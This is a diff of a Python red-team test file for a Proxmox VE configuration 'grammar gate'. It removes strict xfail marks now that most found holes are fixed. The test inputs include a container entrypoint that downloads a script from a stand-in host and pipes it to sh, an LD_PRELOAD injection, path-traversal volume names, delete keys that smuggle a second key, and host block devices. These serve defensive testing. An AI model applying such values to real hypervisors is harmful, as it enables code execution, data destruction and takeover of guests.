@@ -1,8 +1,9 @@
 """Red team of the grammar gate (issue 13 items 1-3; SAFETY-DESIGN §4.1 "Grammar", §6 rows 42-54).
 
 Real requests: a hub's or a compromised planner's tick, or a signed op through the real OpDesk, against
-fakepve over HTTPS; each test counts what fakepve received. Tests marked ``xfail(strict=True)`` are holes
-still open (they pass once fixed, and strict makes the suite say so); the plain tests are what held.
+fakepve over HTTPS; each test counts what fakepve received. The ``test_h*``/``test_l*`` tests are holes the
+red team found: each failed when found and passes since its fix, except H6b, still a strict xfail (a design
+question left open). The plain tests are what held.
 """
 
 from __future__ import annotations
@@ -54,7 +55,7 @@ def verdict(guest_type: str, values: dict[str, str], config: dict[str, str], vmi
 
 
 # ================================================================================================
-# Holes (open): each xfail is strict, so the suite goes red when a fix lands and the mark must go.
+# Holes the red team found (each failed when found, passes since its fix); H6b stays open (a design question).
 # ================================================================================================
 
 # --- H1: content volumes (backup/, snippets/, vztmpl/) read as "shared" and attach as APPROVAL ----
@@ -66,8 +67,6 @@ CONTENT_AS_DISK = {
 }
 
 
-@pytest.mark.xfail(strict=True, reason="H1: grammar.volume reads backup/ snippets/ vztmpl/ as 'shared'; a writable "
-                                       "attach of them is config.disk_attach (APPROVAL, one key)")
 @pytest.mark.parametrize("case", sorted(CONTENT_AS_DISK))
 def test_h1_one_operator_key_cannot_attach_content_volumes_as_a_writable_disk(case: str, fakepve: Any,
                                                                               make_engine: Make,
@@ -93,8 +92,6 @@ def test_h1_one_operator_key_cannot_attach_content_volumes_as_a_writable_disk(ca
     assert "scsi5" not in fakepve.vm(100).config
 
 
-@pytest.mark.xfail(strict=True, reason="H1b: a medium change between two content volumes is disk_media (APPROVAL) "
-                                       "even when one is another guest's backup or a host script")
 @pytest.mark.parametrize(("before", "after"), [
     ("local:iso/debian.iso,media=cdrom", f"{BACKUP_OF_500},media=disk"),
     ("local:iso/debian.iso,media=cdrom", "local:snippets/hook.pl,media=disk"),
@@ -106,8 +103,6 @@ def test_h1b_a_medium_swap_to_a_content_volume_is_not_a_media_change(before: str
 
 # --- H1c: a traversal PVE's dir plugin refuses is read as shared content --------------------------
 
-@pytest.mark.xfail(strict=True, reason="H1c: _SHARED matches iso/\\S+ (slashes, '..'); PVE's dir plugin takes "
-                                       "iso/[^/]+ only, so the name is not 'shared', it is unknown (destructive)")
 @pytest.mark.parametrize("value", ["local:iso/../images/500/vm-500-disk-0.qcow2",
                                    "local:snippets/../images/500/vm-500-disk-0.qcow2",
                                    "local:import/../500/vm-500-disk-0.qcow2"])
@@ -120,9 +115,6 @@ def test_h1c_a_content_path_that_climbs_out_is_not_shared(value: str) -> None:
 
 # --- H2: a key the table matches but the schema does not (scsi01) crashes the tick ---------------
 
-@pytest.mark.xfail(strict=True, raises=KeyError,
-                   reason="H2: keys.Disk reads new['file'] of a key key_spec does not know (scsi01): KeyError out of "
-                          "classify, out of Gate.admit, out of Engine.tick (the daemon's loop dies with it)")
 def test_h2_a_zero_padded_disk_key_from_a_compromised_planner_does_not_stop_the_node(fakepve: Any,
                                                                                     make_engine: Make) -> None:
     """The root-owned file declares guest 101's description only; a compromised planner adds ``scsi01`` for
@@ -139,8 +131,6 @@ def test_h2_a_zero_padded_disk_key_from_a_compromised_planner_does_not_stop_the_
     assert fakepve.vm(101).config["description"] == "new"
 
 
-@pytest.mark.xfail(strict=True, reason="H2: the same KeyError ends a running daemon (exit 1): a compromised planner "
-                                       "takes the node's executor down on every start, signed ops included")
 def test_h2_the_daemon_outlives_a_planner_that_sends_an_odd_disk_key(fakepve: Any, fakepve_cafile: str,
                                                                      tmp_path: Path) -> None:
     """``pve-executor run`` with a root-owned file declaring ``cores`` of 100 and the description of 101; the
@@ -165,8 +155,6 @@ def test_h2_the_daemon_outlives_a_planner_that_sends_an_odd_disk_key(fakepve: An
     assert fakepve.vm(101).config["description"] == "new"
 
 
-@pytest.mark.xfail(strict=True, reason="H2b: net01 (not a PVE key) is classed by the Nic row with no fields: "
-                                       "'adds a NIC where there was none', BENIGN, not the unknown-key approval")
 def test_h2b_a_key_outside_pves_schema_is_never_benign() -> None:
     """``key_spec`` says net01 is no key of PVE's; the key table's regex says it is a NIC. The schema must win."""
     assert grammar.key_spec("qemu", "net01") is None
@@ -175,8 +163,6 @@ def test_h2b_a_key_outside_pves_schema_is_never_benign() -> None:
 
 # --- H3: an LXC device node of a host disk is APPROVAL; the same disk as a mount point DESTRUCTIVE --
 
-@pytest.mark.xfail(strict=True, reason="H3: dev[n] is HostDevice (APPROVAL) whatever the path: /dev/sda in a "
-                                       "container is the host's disk (every guest's LVs), like mp0: /dev/sda")
 @pytest.mark.parametrize("value", ["/dev/sda", "path=/dev/nvme0n1", "/dev/mapper/pve-vm--500--disk--0"])
 def test_h3_a_host_block_device_in_a_container_is_destructive(value: str, fakepve: Any, make_engine: Make) -> None:
     """A hub declares ``dev0`` for its container. As ``mp0: /dev/sda,mp=/x`` the gate says DESTRUCTIVE (a host
@@ -192,8 +178,6 @@ def test_h3_a_host_block_device_in_a_container_is_destructive(value: str, fakepv
 
 # --- H4: code in the guest without credentials: LXC entrypoint / env are BENIGN ------------------
 
-@pytest.mark.xfail(strict=True, reason="H4: entrypoint and env are BENIGN_KEY; row 53's rule (a remote source must "
-                                       "not grant itself a login) applies to 'run my command as the guest's root'")
 @pytest.mark.parametrize(("key", "value"), [
     ("entrypoint", "/bin/sh -c 'wget -qO- http://hub.example/x | sh; exec /sbin/init'"),
     ("env", "LD_PRELOAD=/tmp/x.so"),
@@ -211,8 +195,6 @@ def test_h4_a_hub_cannot_give_itself_code_in_a_container(key: str, value: str, f
 
 # --- H5: boot from the network the hub controls ------------------------------------------------
 
-@pytest.mark.xfail(strict=True, reason="H5: boot order and a NIC's bridge are benign; together with a benign start "
-                                       "the guest boots whatever the hub's network serves, with its disks attached")
 def test_h5_a_hub_cannot_netboot_a_guest_into_its_own_image(fakepve: Any, make_engine: Make) -> None:
     """Guest 100 boots from scsi0. The hub declares ``boot: order=net0`` and moves net0 (MAC kept, firewall kept)
     to a bridge it serves DHCP/TFTP on, and ``running``: all benign, no key. At the start the guest runs the hub's
@@ -228,8 +210,6 @@ def test_h5_a_hub_cannot_netboot_a_guest_into_its_own_image(fakepve: Any, make_e
 
 # --- H6: a new NIC is benign whatever MAC it pins, and whatever firewall the guest's NICs have ----
 
-@pytest.mark.xfail(strict=True, reason="H6: Nic says 'adds a NIC where there was none' (BENIGN) for a NIC that pins "
-                                       "another guest's MAC: the identity rule only looks at this key's old value")
 def test_h6_a_hub_cannot_clone_another_guests_mac_on_a_new_nic(fakepve: Any, make_engine: Make) -> None:
     """Guest 500's NIC has MAC M (its DHCP reservation, its firewall ipset, its licence). A hub adds ``net1`` with
     MAC M to guest 100: guest 100 answers for 500 on the segment. Changing a MAC is ``config.nic_identity``;
@@ -254,9 +234,6 @@ def test_h6b_a_new_unfiltered_nic_beside_a_firewalled_one_needs_approval() -> No
 
 # --- L3: a delete key PVE splits (``;``, white space, NUL) is one unknown key to us ----------------
 
-@pytest.mark.xfail(strict=True, reason="L3: pvewrite refuses ',' only; PVE's split_list also splits on ';', white "
-                                       "space and NUL, so 'description;scsi0' deletes scsi0 (classed unknown_key, "
-                                       "APPROVAL; held today only because a signed op's CONFIG_KEY refuses it)")
 @pytest.mark.parametrize("key", ["description;scsi0", "description scsi0", "description\tscsi0",
                                  "description\x00scsi0"])
 def test_l3_the_writer_refuses_a_delete_key_that_pve_splits(key: str, fakepve: Any, node: Any) -> None:
@@ -275,8 +252,6 @@ def test_l3_the_writer_refuses_a_delete_key_that_pve_splits(key: str, fakepve: A
 
 # --- L1, L2: the grammar reads two things otherwise than PVE (no class is lowered by them today) -------
 
-@pytest.mark.xfail(strict=True, reason="L1: _ON_WHEN_ABSENT applies 'backup' to every format; for an LXC mount "
-                                       "point PVE's absent backup is off (mountpoint_backup_enabled)")
 def test_l1_an_lxc_mount_points_backup_flag_is_off_when_absent() -> None:
     """A QEMU drive is backed up unless ``backup=0``; an LXC volume mount point only with ``backup=1``. The scope
     merge takes ``mp0: ...,backup=1`` and ``mp0: ...`` for one meaning, so a planner's write that drops a declared
@@ -285,8 +260,6 @@ def test_l1_an_lxc_mount_points_backup_flag_is_off_when_absent() -> None:
     assert grammar.field_default("lxc:mp[n]", "backup") == "0"
 
 
-@pytest.mark.xfail(strict=True, reason="L2: \\d in the volume grammar matches any Unicode digit and int() reads it: "
-                                       "'vm-\\u0661\\u0660\\u0660-disk-0' is taken for guest 100's")
 def test_l2_a_volume_owner_is_ascii_digits_only() -> None:
     """Arabic-Indic one-zero-zero (U+0661 U+0660 U+0660) is read as vmid 100 (own volume: an APPROVAL attach);
     PVE's storage code compares owners numerically and Perl numifies the name to 0: not guest 100's. Use [0-9]."""
